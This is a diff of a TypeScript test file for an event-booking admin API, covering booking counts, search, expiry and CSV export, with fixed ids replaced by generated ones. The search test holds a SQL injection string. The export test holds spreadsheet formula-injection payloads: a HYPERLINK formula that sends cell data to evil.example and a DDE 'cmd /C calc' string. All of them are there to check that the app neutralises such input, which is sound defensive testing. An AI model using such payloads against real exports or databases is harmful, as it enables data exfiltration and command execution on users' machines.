@@ -8,15 +8,20 @@ import { aVisitor, payAt } from "#tests/builders/visitor.ts";
 const opened = await anOrganizersApi();
 const { door, organizer } = opened;
 
-async function anEventOf(change = {}): Promise<{ id: string; slug: string }> {
-  const { id, slug } = (await organizer.ask("POST", "/api/admin/events", anEventDraft(change))).body;
-  await organizer.ask("POST", `/api/admin/events/${slug}/publish`, {});
-  return { id, slug };
+type Saved = { id: string; slug: string; categories: { id: string }[]; questions: { id: string }[] };
+
+async function anEventOf(change = {}): Promise<Saved> {
+  const saved: Saved = (await organizer.ask("POST", "/api/admin/events", anEventDraft(change))).body;
+  await organizer.ask("POST", `/api/admin/events/${saved.slug}/publish`, {});
+  return saved;
 }
 
+/** The id of the event's n-th category or question. */
+const idOf = (parts: { id: string }[], index = 0): string => parts[index]?.id ?? "";
+
 /** Somebody who went through the whole sale and paid. */
-async function aConfirmedVisitor(slug: string, person: object = {}) {
-  const visitor = aVisitor(door, { slug, categoryId: "100-km" });
+async function aConfirmedVisitor({ slug, categories }: Saved, person: object = {}) {
+  const visitor = aVisitor(door, { slug, categoryId: idOf(categories) });
   Object.assign(visitor.person, person);
   const orderId = await visitor.toCheckout();
   const paid = await visitor.verify(await payAt(opened.razorpay.url, orderId));
@@ -41,13 +46,13 @@ async function exported(slug: string, query = ""): Promise<{ text: string; heade
 }
 
 test("the counts say who has a place, what was paid, and what is owed to people", async () => {
-  const { slug } = await anEventOf();
-  await aConfirmedVisitor(slug);
-  const holder = aVisitor(door, { slug, categoryId: "50-km" });
+  const event = await anEventOf();
+  await aConfirmedVisitor(event);
+  const holder = aVisitor(door, { slug: event.slug, categoryId: idOf(event.categories, 1) });
   await holder.join();
   await holder.claim();
 
-  const { body } = await organizer.ask("GET", `/api/admin/events/${slug}/counts`);
+  const { body } = await organizer.ask("GET", `/api/admin/events/${event.slug}/counts`);
   expect(body).toMatchObject({
     state: "published",
     capacity: 100,
@@ -62,8 +67,8 @@ test("the counts say who has a place, what was paid, and what is owed to people"
     troubles: [],
     attention: 0,
     categories: [
-      { id: "100-km", name: "100 km", capacity: 80, held: 0, confirmed: 1 },
-      { id: "50-km", name: "50 km", capacity: 40, held: 1, confirmed: 0 },
+      { id: idOf(event.categories), name: "100 km", capacity: 80, held: 0, confirmed: 1 },
+      { id: idOf(event.categories, 1), name: "50 km", capacity: 40, held: 1, confirmed: 0 },
     ],
   });
   expect(body.confirmedPerMinute).toHaveLength(16);
@@ -71,27 +76,29 @@ test("the counts say who has a place, what was paid, and what is owed to people"
 });
 
 test("bookings are found by part of a name, number, address or reference", async () => {
-  const { slug } = await anEventOf();
-  await aConfirmedVisitor(slug, { name: "Meera Joshi", phone: "+919812300001", email: "meera_j@club.example" });
-  await aConfirmedVisitor(slug, { name: "मीरा जोशी", phone: "+919812300002", email: "meeraxj@club.example" });
-  const { reference } = (await listed(slug, "search=Meera%20J")).bookings[0];
+  const event = await anEventOf();
+  await aConfirmedVisitor(event, { name: "Meera Joshi", phone: "+919812300001", email: "meera_j@club.example" });
+  await aConfirmedVisitor(event, { name: "मीरा जोशी", phone: "+919812300002", email: "meeraxj@club.example" });
+  const { reference } = (await listed(event.slug, "search=Meera%20J")).bookings[0];
 
-  expect(namesOf(await listed(slug))).toEqual(["Meera Joshi", "मीरा जोशी"]);
-  expect(namesOf(await listed(slug, "search=joshi"))).toEqual(["Meera Joshi"]);
-  expect(namesOf(await listed(slug, `search=${encodeURIComponent("जोशी")}`))).toEqual(["मीरा जोशी"]);
-  expect(namesOf(await listed(slug, `search=${encodeURIComponent("98123 00002")}`))).toEqual(["मीरा जोशी"]);
-  expect(namesOf(await listed(slug, `search=${reference.toLowerCase().replace("-", "")}`))).toEqual(["Meera Joshi"]);
-  expect(namesOf(await listed(slug, "search=nobody"))).toEqual([]);
+  expect(namesOf(await listed(event.slug))).toEqual(["Meera Joshi", "मीरा जोशी"]);
+  expect(namesOf(await listed(event.slug, "search=joshi"))).toEqual(["Meera Joshi"]);
+  expect(namesOf(await listed(event.slug, `search=${encodeURIComponent("जोशी")}`))).toEqual(["मीरा जोशी"]);
+  expect(namesOf(await listed(event.slug, `search=${encodeURIComponent("98123 00002")}`))).toEqual(["मीरा जोशी"]);
+  expect(namesOf(await listed(event.slug, `search=${reference.toLowerCase().replace("-", "")}`))).toEqual([
+    "Meera Joshi",
+  ]);
+  expect(namesOf(await listed(event.slug, "search=nobody"))).toEqual([]);
 });
 
 test("what is searched for is text, not a pattern and not SQL", async () => {
-  const { slug } = await anEventOf();
-  await aConfirmedVisitor(slug, { name: "Meera Joshi", email: "meera_j@club.example" });
-  await aConfirmedVisitor(slug, { name: "Meera Jog", email: "meeraxj@club.example" });
+  const event = await anEventOf();
+  await aConfirmedVisitor(event, { name: "Meera Joshi", email: "meera_j@club.example" });
+  await aConfirmedVisitor(event, { name: "Meera Jog", email: "meeraxj@club.example" });
 
-  expect(namesOf(await listed(slug, "search=meera_j%40club"))).toEqual(["Meera Joshi"]);
+  expect(namesOf(await listed(event.slug, "search=meera_j%40club"))).toEqual(["Meera Joshi"]);
   for (const search of ["%", "_", "%' OR '1'='1", "\\"]) {
-    expect({ search, names: namesOf(await listed(slug, `search=${encodeURIComponent(search)}`)) }).toEqual({
+    expect({ search, names: namesOf(await listed(event.slug, `search=${encodeURIComponent(search)}`)) }).toEqual({
       search,
       names: search === "_" ? ["Meera Joshi"] : [],
     });
@@ -99,30 +106,30 @@ test("what is searched for is text, not a pattern and not SQL", async () => {
 });
 
 test("a place that nobody keeps any more is listed as expired before any job wrote it down", async () => {
-  const { slug, id } = await anEventOf();
-  const visitor = aVisitor(door, { slug, categoryId: "100-km" });
+  const event = await anEventOf();
+  const visitor = aVisitor(door, { slug: event.slug, categoryId: idOf(event.categories) });
   await visitor.join();
   await visitor.claim();
-  await sql`UPDATE bookings SET kept_until = now() - interval '1 second' WHERE event_id = ${id}`.execute(
+  await sql`UPDATE bookings SET kept_until = now() - interval '1 second' WHERE event_id = ${event.id}`.execute(
     opened.startline.db,
   );
 
-  expect((await listed(slug, "state=expired")).total).toBe(1);
-  expect((await listed(slug, "state=held")).total).toBe(0);
+  expect((await listed(event.slug, "state=expired")).total).toBe(1);
+  expect((await listed(event.slug, "state=held")).total).toBe(0);
 });
 
 test("the export is UTF-8 with a byte order mark, and has all that the organizer needs of each participant", async () => {
-  const { slug } = await anEventOf({
-    questions: [{ id: "jersey", label: "Jersey size", options: ["S", "M"], isRequired: false }],
+  const event = await anEventOf({
+    questions: [{ id: "", label: "Jersey size", options: ["S", "M"], isRequired: false }],
   });
-  await aConfirmedVisitor(slug, {
+  await aConfirmedVisitor(event, {
     name: "मीरा जोशी",
     phone: "+919812300003",
     email: "m@club.example",
-    answers: { jersey: "M" },
+    answers: { [idOf(event.questions)]: "M" },
   });
 
-  const { text, header, rows } = await exported(slug);
+  const { text, header, rows } = await exported(event.slug);
   expect(text.charCodeAt(0)).toBe(0xfeff);
   const row = Object.fromEntries(header.map((name, index) => [name, rows[0]?.[index]]));
   expect(row).toMatchObject({
@@ -145,38 +152,38 @@ test("the export is UTF-8 with a byte order mark, and has all that the organizer
 });
 
 test("no cell of the export can be run as a formula", async () => {
-  const { slug } = await anEventOf({ questions: [{ id: "note", label: "=Note", isRequired: false }] });
-  await aConfirmedVisitor(slug, {
+  const event = await anEventOf({ questions: [{ id: "", label: "=Note", isRequired: false }] });
+  await aConfirmedVisitor(event, {
     name: '=HYPERLINK("http://evil.example?"&A1,"Asha")',
-    answers: { note: "@SUM(1+1)*cmd|' /C calc'!A0" },
+    answers: { [idOf(event.questions)]: "@SUM(1+1)*cmd|' /C calc'!A0" },
   });
-  await aConfirmedVisitor(slug, { name: "-2+3 Asha", answers: { note: "+1" } });
+  await aConfirmedVisitor(event, { name: "-2+3 Asha", answers: { [idOf(event.questions)]: "+1" } });
 
-  const { header, rows } = await exported(slug);
+  const { header, rows } = await exported(event.slug);
   const cells = [...header, ...rows.flat()];
   expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   expect(cells).toContain(`'=HYPERLINK("http://evil.example?"&A1,"Asha")`);
 });
 
 test("the export has every row exactly once, however many reads it takes", async () => {
-  const { slug, id } = await anEventOf({
+  const event = await anEventOf({
     capacity: 5000,
     categories: [{ id: null, name: "100 km", capacity: 5000, ticketPricePaise: 1000 }],
   });
   const wanted = 1203;
-  const ids = Array.from({ length: wanted }, () => newRowId("bkg", id));
+  const ids = Array.from({ length: wanted }, () => newRowId("bkg", event.id));
   // Many share a microsecond, so that only the id tells them apart.
   await sql`INSERT INTO bookings (event_id, id, category_id, reference, state, ticket_id, amount_paise, platform_fee_paise,
       hold_expires_at, kept_until, created_at, confirmed_at)
-    SELECT ${id}, b, '100-km', b, CASE WHEN n % 3 = 0 THEN 'released' ELSE 'confirmed' END, b, 3500, 2500, now(), now(),
+    SELECT ${event.id}, b, ${idOf(event.categories)}, b, CASE WHEN n % 3 = 0 THEN 'released' ELSE 'confirmed' END, b, 3500, 2500, now(), now(),
       timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond',
       CASE WHEN n % 3 = 0 THEN NULL ELSE timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond' END
     FROM unnest(${ids}::text[]) WITH ORDINALITY AS u (b, n)`.execute(opened.startline.db);
 
-  const all = await exported(slug, "all=1");
+  const all = await exported(event.slug, "all=1");
   expect(new Set(all.rows.map((row) => row[0])).size).toBe(wanted);
   expect(all.rows).toHaveLength(wanted);
-  const confirmed = await exported(slug);
+  const confirmed = await exported(event.slug);
   expect(confirmed.rows).toHaveLength(802);
   expect(new Set(confirmed.rows.map((row) => row[1]))).toEqual(new Set(["confirmed"]));
 });
